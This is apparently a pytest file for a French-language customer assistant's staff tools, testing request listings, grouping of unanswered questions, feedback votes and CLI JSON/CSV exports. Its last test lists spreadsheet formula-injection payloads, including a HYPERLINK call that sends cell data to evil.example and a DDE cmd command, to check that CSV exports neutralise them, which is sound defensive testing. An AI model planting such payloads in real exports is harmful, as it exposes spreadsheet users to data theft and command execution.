"""What staff see: requests, outbox, ledger, unanswered questions, feedback, from Python and the CLI."""
import csv
import io
import json

import pytest
from click.testing import CliRunner

from assistant import Assistant, csvexport, staff
from assistant.cli import cli
from assistant.store import Store


def test_requests_are_listed_filtered_and_shown(fresh, converse):
    converse("exo", "je voudrais une démo", "Karim Benali, karim@exemple.dz", "Sonatrach", "oui")
    converse("exo", "je veux parler à quelqu'un")
    assert {r["kind"] for r in staff.requests(fresh.store)} == {"demo", "contact"}
    [demo] = staff.requests(fresh.store, kind="demo")
    shown = staff.request(fresh.store, demo["reference"])
    assert shown["payload"]["company"] == "Sonatrach" and len(shown["notices"]) == 2
    assert staff.requests(fresh.store, tenant="conex") == []


def test_unanswered_questions_are_grouped_most_frequent_first(fresh):
    for message in ("recette de crêpes ?", "une recette de crêpes svp", "recette crepes", "qui a gagné le match ?"):
        fresh.reply("exo", None, message)
    groups = staff.unanswered(fresh.store, tenant="exo")
    assert groups[0]["count"] == 3 and "crêpes" in groups[0]["question"]
    assert groups[1]["count"] == 1


def test_a_not_helpful_vote_is_stored_and_joins_the_unanswered(fresh):
    sid = fresh.reply("exo", None, "combien de temps dure l'essai ?").session_id
    fresh.feedback(sid, helpful=False, comment="pas clair")
    [row] = fresh.store.rows("feedback")
    assert row["helpful"] == 0 and row["comment"] == "pas clair"
    assert staff.unanswered(fresh.store)[0]["reasons"] == ["not_helpful"]


def test_the_commands_print_json_and_csv(assistant):
    assistant.reply("exo", None, "recette de crêpes ?")
    runner = CliRunner()
    groups = json.loads(runner.invoke(cli, ["unanswered", "--json"]).output)
    assert any("crêpes" in g["question"] for g in groups)
    ledger = list(csv.DictReader(io.StringIO(runner.invoke(cli, ["ledger", "--csv"]).output)))
    assert [row["account"] for row in ledger] == ["SX-1001", "SX-1002", "SX-1003", "SX-1004", "SX-1005"]
    assert runner.invoke(cli, ["outbox"]).exit_code == 0
    assert runner.invoke(cli, ["requests", "--kind", "quote"]).exit_code == 0
    missing = runner.invoke(cli, ["requests", "show", "QUO-NOPE"])
    assert missing.exit_code == 2 and "QUO-NOPE" in missing.output


# -- the command line: safe CSV ----------------------------------------------------------------------

HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1, \"clic\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
           "\t=1", "\r=1"]


@pytest.fixture
def cli_store(bundle, tmp_path, monkeypatch):
    """An assistant on the database the commands read."""
    monkeypatch.setenv("ASSISTANT_DB", str(tmp_path / "cli.db"))
    return Assistant(bundle, Store(tmp_path / "cli.db"))


def test_csv_exports_neutralise_what_a_spreadsheet_would_run(cli_store):
    for n, text in enumerate(HOSTILE):  # each in a tenant of its own: "\t=1" and "\r=1" would be one group
        cli_store.backoffice.log_unanswered(sorted(cli_store.tenants)[n % 5], "fr", text, [], "s" * 16)
    groups = list(csv.DictReader(io.StringIO(CliRunner().invoke(cli, ["unanswered", "--csv"]).stdout)))
    assert sorted(g["question"] for g in groups) == sorted("'" + text for text in HOSTILE)
    assert all(not cell.startswith(csvexport.FORMULA_STARTS) for row in groups for cell in row.values())
